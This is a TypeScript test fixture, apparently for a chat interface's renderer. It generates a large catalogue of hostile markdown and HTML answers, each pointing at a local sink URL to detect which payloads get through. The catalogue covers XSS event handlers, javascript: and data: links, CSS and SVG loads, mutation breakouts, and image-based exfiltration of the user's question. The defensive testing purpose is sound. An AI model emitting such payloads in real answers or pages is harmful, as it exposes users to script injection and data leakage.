/** What a hostile answer tries, so that a failure can be told by its kind. */
export type HostileKind =
  | 'image'
  | 'link'
  | 'html'
  | 'style'
  | 'svg'
  | 'media'
  | 'embedding'
  | 'script'
  | 'form'
  | 'document'
  | 'obfuscated'
  | 'scheme'
  | 'mark'
  | 'formula';

export interface HostileAnswer {
  readonly kind: HostileKind;
  /** Unique, and the last part of the sink address that the answer points at. */
  readonly name: string;
  readonly markdown: string;
}

type Recipe = readonly [kind: HostileKind, name: string, write: (address: string) => string];

function entities(text: string): string {
  return [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('');
}

function base64(text: string): string {
  return btoa(text);
}

const recipes: readonly Recipe[] = [
  ['image', 'image-inline', (to) => `Here is a chart: ![chart](${to})`],
  ['image', 'image-titled', (to) => `![chart](<${to}> "A chart")`],
  ['image', 'image-by-reference', (to) => `![chart][c]\n\n[c]: ${to} "chart"`],
  ['image', 'image-by-short-reference', (to) => `![chart]\n\n[chart]: ${to}`],
  ['image', 'image-as-link', (to) => `[![badge](${to})](${to}-link)`],
  ['image', 'image-in-table', (to) => `| a | b |\n| - | - |\n| ![x](${to}) | 2 |`],
  ['image', 'image-in-heading-and-quote', (to) => `> # ![x](${to})\n> - ![y](${to}-2)`],
  ['image', 'image-leaking-the-question', (to) => `![ ](${to}?q=everything%20you%20asked)`],
  ['image', 'image-without-scheme', (to) => `![x](${to.replace(/^https?:/, '')})`],

  ['link', 'link-inline', (to) => `[your bank](${to})`],
  ['link', 'link-by-reference', (to) => `[your bank][1]\n\n[1]: ${to} "Sign in"`],
  ['link', 'link-with-a-false-face', (to) => `[https://example.org/account](${to})`],
  ['link', 'autolink', (to) => `See <${to}> for more.`],
  ['link', 'autolink-bare', (to) => `See ${to} for more.`],
  ['link', 'link-with-credentials', (to) => `[docs](${to.replace('://', '://example.org@')})`],
  ['link', 'anchor-with-ping', (to) => `<a href="#top" ping="${to}">top</a>`],

  ['html', 'img', (to) => `<img src="${to}" alt="">`],
  ['html', 'img-srcset', (to) => `<img srcset="${to} 1x, ${to}-2 2x" alt="">`],
  ['html', 'img-lazy', (to) => `<img loading="eager" decoding="sync" src='${to}'>`],
  ['html', 'img-onerror', (to) => `<img src="x:" onerror="fetch('${to}')">`],
  ['html', 'picture-source', (to) => `<picture><source srcset="${to}"><img alt=""></picture>`],
  ['html', 'input-image', (to) => `<input type="image" src="${to}" alt="go">`],
  ['html', 'table-background', (to) => `<table background="${to}"><tr><td background="${to}-cell">1</td></tr></table>`],
  ['html', 'body-background', (to) => `<body background="${to}">`],
  ['html', 'blockquote-cite-and-longdesc', (to) => `<blockquote cite="${to}">x<img longdesc="${to}" alt=""></blockquote>`],

  ['document', 'link-stylesheet', (to) => `<link rel="stylesheet" href="${to}">`],
  ['document', 'link-prefetch', (to) => `<link rel="prefetch" href="${to}"><link rel="preload" as="image" href="${to}-preload">`],
  ['document', 'link-modulepreload', (to) => `<link rel="modulepreload" href="${to}">`],
  ['document', 'link-preconnect', (to) => `<link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="${to}">`],
  ['document', 'link-icon-and-manifest', (to) => `<link rel="icon" href="${to}"><link rel="manifest" href="${to}-manifest">`],
  ['document', 'meta-refresh', (to) => `<meta http-equiv="refresh" content="0;url=${to}">`],
  ['document', 'base', (to) => `<base href="${to}/">\n\n![x](relative.png) <img src="other.png">`],
  ['document', 'speculation-rules', (to) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${to}"]}]}</script>`],

  ['style', 'style-element', (to) => `<style>body { background: url("${to}") }</style>`],
  ['style', 'style-import', (to) => `<style>@import url("${to}");</style>`],
  ['style', 'style-import-after-list', (to) => `- one\n- two\n\n<style>@import '${to}';</style>`],
  ['style', 'style-attribute', (to) => `<p style="background-image: url('${to}')">x</p>`],
  ['style', 'style-attribute-image-set', (to) => `<div style="background: image-set(url(${to}) 1x); height: 9px">x</div>`],
  ['style', 'style-attribute-cursor-and-list', (to) => `<ul style="list-style: url(${to})"><li>x</li></ul>`],
  ['style', 'style-escaped-url', (to) => `<p style="background:u\\72l(${to})">x</p>`],
  ['style', 'font-face', (to) => `<style>@font-face { font-family: f; src: url(${to}) } p { font-family: f }</style><p>x</p>`],

  ['svg', 'svg-image', (to) => `<svg width="9" height="9"><image href="${to}" width="9" height="9"/></svg>`],
  ['svg', 'svg-image-xlink', (to) => `<svg><image xlink:href="${to}" width="9" height="9"></image></svg>`],
  ['svg', 'svg-use', (to) => `<svg><use href="${to}#shape"></use></svg>`],
  [
    'svg',
    'svg-fe-image',
    (to) => `<svg><filter id="f"><feImage href="${to}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  ],
  ['svg', 'svg-script', (to) => `<svg><script href="${to}"></script><script>fetch('${to}')</script></svg>`],
  ['svg', 'svg-onload', (to) => `<svg onload="fetch('${to}')"></svg>`],
  [
    'svg',
    'svg-animate-href',
    (to) => `<svg><a id="a"><text y="9">go</text></a><animate href="#a" attributeName="href" values="${to}"/></svg>`,
  ],
  ['svg', 'svg-style', (to) => `<svg><style>@import "${to}";</style></svg>`],
  ['svg', 'svg-foreign-object', (to) => `<svg><foreignObject><img src="${to}"></foreignObject></svg>`],
  [
    'svg',
    'svg-data-image',
    (to) => `![x](data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${to}"/></svg>`)})`,
  ],

  ['media', 'video', (to) => `<video autoplay muted src="${to}" poster="${to}-poster"></video>`],
  [
    'media',
    'video-source-and-track',
    (to) => `<video preload="auto"><source src="${to}"><track default kind="captions" src="${to}-track"></video>`,
  ],
  ['media', 'audio', (to) => `<audio autoplay src="${to}"></audio>`],

  ['embedding', 'iframe', (to) => `<iframe src="${to}"></iframe>`],
  ['embedding', 'iframe-srcdoc', (to) => `<iframe srcdoc="&lt;img src='${to}'&gt;"></iframe>`],
  ['embedding', 'object', (to) => `<object data="${to}"></object>`],
  ['embedding', 'embed', (to) => `<embed src="${to}">`],
  ['embedding', 'frameset', (to) => `<frameset><frame src="${to}"></frameset>`],
  ['embedding', 'portal-and-fenced-frame', (to) => `<portal src="${to}"></portal><fencedframe src="${to}"></fencedframe>`],

  ['script', 'script-element', (to) => `<script src="${to}"></script>`],
  ['script', 'script-inline', (to) => `<script>fetch('${to}')</script>`],
  ['script', 'script-module', (to) => `<script type="module">import '${to}'</script>`],
  ['script', 'details-ontoggle', (to) => `<details open ontoggle="navigator.sendBeacon('${to}')"><summary>x</summary></details>`],
  ['script', 'autofocus-onfocus', (to) => `<input autofocus onfocus="new Image().src='${to}'">`],
  [
    'script',
    'animation-handler',
    (to) => `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart="fetch('${to}')">x</b>`,
  ],

  [
    'form',
    'form-action',
    (to) => `<form action="${to}" method="get"><input name="q" value="secret"><button autofocus>Continue</button></form>`,
  ],
  ['form', 'button-formaction', (to) => `<form><button formaction="${to}">Continue</button></form>`],

  ['obfuscated', 'unclosed-tag', (to) => `<img src="${to}" alt="`],
  ['obfuscated', 'broken-nesting', (to) => `<b><i><p></b><img/src=${to}></i>`],
  ['obfuscated', 'comment-breakout', (to) => `<!--><img src="${to}">-->`],
  ['obfuscated', 'cdata-breakout', (to) => `<svg><![CDATA[><img src="${to}">]]></svg>`],
  ['obfuscated', 'noscript-mutation', (to) => `<noscript><p title="</noscript><img src=${to}>"></noscript>`],
  [
    'obfuscated',
    'math-mutation',
    (to) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${to}&gt;"></table></mtext></math>`,
  ],
  [
    'obfuscated',
    'math-image',
    (to) => `<math><mi xlink:href="${to}">x</mi><maction actiontype="statusline" href="${to}">y</maction></math>`,
  ],
  ['obfuscated', 'form-mutation', (to) => `<form><math><mtext></form><form><mglyph><style></math><img src="${to}">`],
  ['obfuscated', 'textarea-breakout', (to) => `<textarea></textarea><img src="${to}"></textarea>`],
  ['obfuscated', 'title-breakout', (to) => `<title></title><img src="${to}"></title>`],
  ['obfuscated', 'template-element', (to) => `<template><img src="${to}"></template>`],
  ['obfuscated', 'declarative-shadow-root', (to) => `<div><template shadowrootmode="open"><img src="${to}"></template></div>`],
  ['obfuscated', 'entities-in-address', (to) => `<img src="${entities(to)}">`],
  ['obfuscated', 'entities-in-markdown', (to) => `![x](${entities(to)})`],
  ['obfuscated', 'entities-around-tag', (to) => `&lt;img src="${to}"&gt;`],
  ['obfuscated', 'capitals-and-newlines', (to) => `<ImG\nSrC\n=\n"${to}"\n>`],
  ['obfuscated', 'slashes-for-spaces', (to) => `<img/alt=""/src="${to}"/>`],
  ['obfuscated', 'null-and-tab', (to) => `<img src="\t${to}\n" alt="\u0000">`],
  ['obfuscated', 'backslashes-for-slashes', (to) => `<img src="${to.replace('://', ':\\\\')}">`],
  ['obfuscated', 'code-fence-breakout', (to) => `\`\`\`html"><img src="${to}">\n<img src="${to}-2">\n\`\`\``],
  ['obfuscated', 'link-title-breakout', (to) => `[x](https://example.org "&quot;><img src=${to}>")`],
  ['obfuscated', 'image-alt-breakout', (to) => `![" onerror="fetch('${to}')" x="](x:)`],
  ['obfuscated', 'language-breakout', (to) => `\`\`\`"onmouseover="fetch('${to}')\ncode\n\`\`\``],

  ['scheme', 'javascript-link', (to) => `[open](javascript:fetch('${to}'))`],
  ['scheme', 'javascript-link-in-capitals', (to) => `[open](JaVaScRiPt:fetch('${to}'))`],
  ['scheme', 'javascript-link-with-entities', (to) => `<a href="java&#115;cript&colon;fetch('${to}')">open</a>`],
  ['scheme', 'javascript-link-with-tab', (to) => `<a href="java\tscript:fetch('${to}')">open</a>`],
  ['scheme', 'javascript-autolink', (to) => `<javascript:fetch('${to}')>`],
  ['scheme', 'javascript-iframe', (to) => `<iframe src="javascript:fetch('${to}')"></iframe>`],
  ['scheme', 'vbscript-link', (to) => `[open](vbscript:MsgBox("${to}"))`],
  ['scheme', 'data-link', (to) => `[open](data:text/html;base64,${base64(`<img src="${to}">`)})`],
  ['scheme', 'data-iframe', (to) => `<iframe src="data:text/html,<img src=${to}>"></iframe>`],
  ['scheme', 'blob-and-filesystem-link', (to) => `[open](blob:${to}) [open](filesystem:${to})`],
  ['scheme', 'file-link', (to) => `[open](file:///etc/hostname?${to})`],
  ['scheme', 'extension-link', (to) => `[open](chrome-extension://abcdefghijklmnop/options.html?${to})`],
  ['scheme', 'websocket', (to) => `<img src="${to.replace(/^http/, 'ws')}" onerror="new WebSocket(this.src)">`],

  ['mark', 'mark-as-link', (to) => `It is so [1](${to}).`],
  ['mark', 'mark-as-reference', (to) => `It is so [1].\n\n[1]: ${to}`],
  ['mark', 'mark-as-footnote', (to) => `It is so [^1].\n\n[^1]: ${to}`],
  ['mark', 'mark-as-image', (to) => `It is so ![1](${to}) and ![[1]](${to}-2).`],
  ['mark', 'mark-with-html', (to) => `It is so [<img src="${to}">1] and [1<script>fetch('${to}')</script>].`],
  ['mark', 'mark-out-of-range', (to) => `It is so [0], [99], [-1], [1e1], [１] and [${'9'.repeat(40)}]. ${to}`],
  ['mark', 'mark-in-code', (to) => `\`[1]\` and\n\n    [1] ${to}`],
  [
    'mark',
    'mark-made-of-a-chip',
    (to) => `<button class="citation" data-number="1" onclick="fetch('${to}')">1</button><a class="citation" href="${to}">1</a>`,
  ],

  ['formula', 'formula-link', (to) => `It is $\\href{${to}}{x^2}$ and \\(\\url{${to}}\\).`],
  ['formula', 'formula-script', (to) => `$$\\href{javascript:fetch('${to}')}{x}$$`],
  ['formula', 'formula-image', (to) => `$$\\includegraphics[height=1em]{${to}}$$`],
  ['formula', 'formula-html', (to) => `$\\text{<img src="${to}">}$ and $$\\class{a}{\\style{background:url(${to})}{x}}$$`],
  ['formula', 'formula-without-end', (to) => `$\\def\\a{\\a\\a}\\a$ and $\\rule{9999em}{9999em}$ ${to}`],
];

/**
 * Answers that try to make whoever shows them load something, run something or mislead the reader. Each points at an address of its own below
 * `sinkUrl`, so that a request received there names the answer that got through.
 * @param sinkUrl an absolute address without a slash at its end, such as `http://127.0.0.1:4321/sink`.
 */
export function hostileAnswers(sinkUrl: string): HostileAnswer[] {
  return recipes.map(([kind, name, write]) => ({ kind, name, markdown: write(`${sinkUrl}/${name}`) }));
}
